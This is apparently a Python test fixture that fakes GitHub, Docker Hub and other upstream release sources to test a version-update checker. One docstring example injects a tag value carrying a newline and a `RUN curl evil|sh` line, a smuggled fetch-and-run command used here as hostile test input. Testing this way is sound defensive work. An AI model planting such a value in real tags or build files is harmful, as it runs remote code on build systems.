"""A fake internet for the real `versions.yaml`: every upstream of every component, one server.

`FakeWorld` holds what each upstream publishes (GitHub releases and tags, Docker Hub tag pages,
registry manifests behind the auth.docker.io bearer-token flow, Node's `dist/index.json`,
PostgreSQL's `versions.json`, checksum files, archives, release assets) in the shapes of
`reference/upstreams.md`, traps included: junk tags, every pre-release spelling, drafts (shown
only to authenticated callers, as GitHub does), `prerelease: true`, several branches released
the same day with `/releases/latest` pointing at the older one, more than 100 tags over several
`Link` pages, Docker Hub `next` links, manifest lists next to OCI indexes, sums files named
`.sha256` (Asterisk), `.tar.bz2.sha256` (PostgreSQL), `.tar.gz.sha256` (pgbouncer), the redis
hashes README, asset digests (null for assets older than June 2025) and `-current` sums files
that name the versioned tarball.

All hosts are served by one `UpstreamServer` under a path prefix per host
(`https://api.github.com/repos/x/y` is served at `<server>/api.github.com/repos/x/y`), and every
absolute link a response carries (`Link`, Docker Hub `next`, `Location`, the token realm) names
the REAL host. `HostRoutingTransport` does the mapping below httpx, so the code under test uses
the real URLs unchanged:

    with serve_world() as (server, world):
        async with routed_client(server.url) as client:
            outcome = await run_check(manifest, HttpFetcher(client), today=TODAY, resolve=True)
        assert outcome.updates[0].sha256 == world.sha256_for("kamailio", "6.1.5")

What is newer than `versions.yaml` (as of `TODAY`): within policy, debian 20260901, node 24.21.0,
kamailio 6.1.5, rtpengine 13.5.1.26, janus 1.4.2, coturn 4.18.0, caddy 2.11.5, asterisk 22.11.0,
postgresql 17.12, redis 7.4.11, pgbouncer 1.25.3, squid 7.7, actions/checkout 6.0.2,
actions/setup-python 6.2.0, debian-snapshot 20260901 and histogram-quantile 0.0.2; beyond
policy, node 26.x, rtpengine mr26.x, asterisk 23.x, postgresql 18.x, redis 8.x, clickhouse 26.x,
pjproject 2.18 and actions/cache 6.0.0 (pjproject and histogram-quantile: `world.supply`).
python, the SigNoz set
(signoz, its collector, clickhouse, zookeeper) and the other actions (upload-artifact with a
draft 6.0.1, download-artifact, configure-aws-credentials with a 5.2.0 flagged pre-release) are
current. Every tag answers `GET /repos/{repo}/commits/{tag}` (the bare SHA for
`Accept: application/vnd.github.sha`, as action pins resolve it; `commit_for`): the pinned
action tags their real commits, the others SHAs derived from repo and tag, the moving major
tags (`v6`) their newest release's.

Faults are injected per component and per `Role` (which request of that component):

    FakeWorld({"redis": Override(faults=(Fault(kind=FaultKind.HANG),))})
    FakeWorld({"asterisk": Override(faults=(Fault(kind=FaultKind.WRONG_FILE,
                                                   role=Role.CHECKSUM),))})
    FakeWorld({"redis": Override(extra_tags=("7.4.12\\nRUN curl evil|sh",))})

`world.log` records every request the world answered (real URL, component, role, request
headers, status), so tests can check who got `Authorization`, that `/releases/latest` was never
asked and that a second run only revalidated. Every response is deterministic (ETags are body
hashes, tokens and rate-limit headers are constants), so a recording of the world is
reproducible byte for byte.
"""


from __future__ import annotations

from collections.abc import Mapping

from world.advisories import add_advisories
from world.caddy import add_caddy_arm64
from world.catalogue import (
    _actions,
    _asterisk,
    _caddy,
    _clickhouse,
    _collector,
    _coturn,
    _debian,
    _janus,
    _kamailio,
    _node_images,
    _pgbouncer,
    _python,
    _redis,
    _rtpengine,
    _signoz,
    _signoz_images,
    _squid,
    _zookeeper,
)
from world.cosign import install as install_cosign
from world.eol import add_eol
from world.faults import Override
from world.github import GitHubSite
from world.gitrefs import add_gitrefs
from world.graphql import add_graphql
from world.registry import DockerHubSite
from world.sets import add_sets
from world.signatures import add_signatures
from world.sites import ProjectSites
from world.supply import install as install_supply


class FakeWorld(GitHubSite, DockerHubSite, ProjectSites):
    """Every upstream of `versions.yaml`, answering on an `UpstreamServer` (`install`)."""

    COMPONENTS = ("debian", "node", "python", "kamailio", "rtpengine", "janus", "coturn",
                  "caddy", "caddy-arm64", "asterisk", "postgresql", "redis", "pgbouncer",
                  "signoz", "signoz-otel-collector", "clickhouse", "zookeeper", "squid",
                  "actions-checkout", "actions-setup-python", "actions-cache",
                  "actions-upload-artifact", "actions-download-artifact",
                  "aws-configure-aws-credentials", "debian-snapshot", "pjproject",
                  "histogram-quantile", "docker-setup-buildx-action",
                  "sigstore-cosign-installer", "buildkit", "histogram-quantile-arm64",
                  "docker-setup-qemu-action", "binfmt")

    def __init__(self, overrides: Mapping[str, Override] | None = None) -> None:
        super().__init__(overrides)
        self.repos = (_kamailio(), _rtpengine(), _janus(), _coturn(), _caddy(), _asterisk(),
                      _redis(), _pgbouncer(), _signoz(), _collector(), _squid(), *_actions())
        self.images = (_debian(), _python(), _node_images(), _clickhouse(), _zookeeper(),
                       *_signoz_images())
        for repo in self.repos:
            self._add_github(repo)
        for image in self.images:
            self._add_image(image)
        self._add_token_endpoint()
        self._add_node()
        self._add_postgres()
        self._add_kamailio_site()
        self._add_asterisk_downloads()
        self._add_redis_downloads()
        self._add_pgbouncer_site()
        install_supply(self)  # first: it adds repositories the two below serve too
        install_cosign(self)  # Caddy's checksums files, cosign-signed (world.cosign)
        self.graphql = add_graphql(self)  # POST /graphql, from the same repos (world.graphql)
        add_advisories(self)
        add_gitrefs(self)  # git/refs/tags, what nvchecker reads (benchmarks/check_bench.py)
        add_eol(self)
        add_sets(self)
        add_caddy_arm64(self)  # caddy's linux/arm64 archive, a component of its own (world.caddy)
        add_signatures(self)  # upstream signatures versions.yaml declares (world.signatures)

    # What tests ask the world

    def sha256_for(self, component: str, version: str) -> str:
        """The sha256 upstream publishes (or, for `compute` kinds, serves) for the archive
        `versions.yaml` pins of `component` at `version`."""
        return self._sha256[(component, version)]

    def digest_for(self, repository: str, tag: str) -> str:
        """The index digest `repository:tag` points at (`library/debian`, `trixie-...-slim`)."""
        return self._digests[(repository, tag)]

    def commit_for(self, repo: str, tag: str) -> str:
        """The commit SHA `GET /repos/{repo}/commits/{tag}` answers (`actions/checkout`, `v6.0.2`)."""
        return self._commits[(repo, tag)]
